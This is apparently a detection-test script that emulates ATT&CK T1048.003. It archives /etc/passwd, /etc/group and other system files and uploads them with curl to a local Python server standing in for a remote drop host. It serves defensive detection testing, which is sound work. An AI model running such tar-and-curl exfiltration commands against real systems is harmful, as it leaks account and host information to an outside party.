# technique: T1048.003
# tactic: exfiltration
# name: Archive of /etc uploaded with curl -T and -F to a plain-HTTP drop server
# expect: detected
. "$EMULATION_LIB"
need python3 curl tar timeout ss
loopback_up
# Data goes out over plain HTTP to a drop server that is not the C2. 127.10.20.30 (on the private
# loopback) stands for the remote drop host; the Python server stores what it receives in $PWD.
cat > drop.py <<'PY'
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def _store(self):
        n = int(self.headers.get("Content-Length") or 0)
        with open("received.bin", "ab") as f: f.write(self.rfile.read(n))
        self.send_response(201); self.end_headers()
    do_PUT = do_POST = _store
    def log_message(self, *a): pass
http.server.HTTPServer(("127.10.20.30", 8080), H).serve_forever()
PY
timeout 9 python3 drop.py &
server=$!
i=0; until ss -ltn | grep -q '127.10.20.30:8080 '; do i=$((i+1)); [ $i -lt 50 ] || exit 1; sleep 0.1; done
tar -czf host-etc.tgz /etc/passwd /etc/group /etc/hosts /etc/os-release 2>/dev/null
curl -s --max-time 3 -T host-etc.tgz http://127.10.20.30:8080/u/host-etc.tgz >/dev/null
curl -s --max-time 3 -F "f=@host-etc.tgz" http://127.10.20.30:8080/u >/dev/null
kill "$server" 2>/dev/null || true
wait "$server" 2>/dev/null || true
test -s received.bin
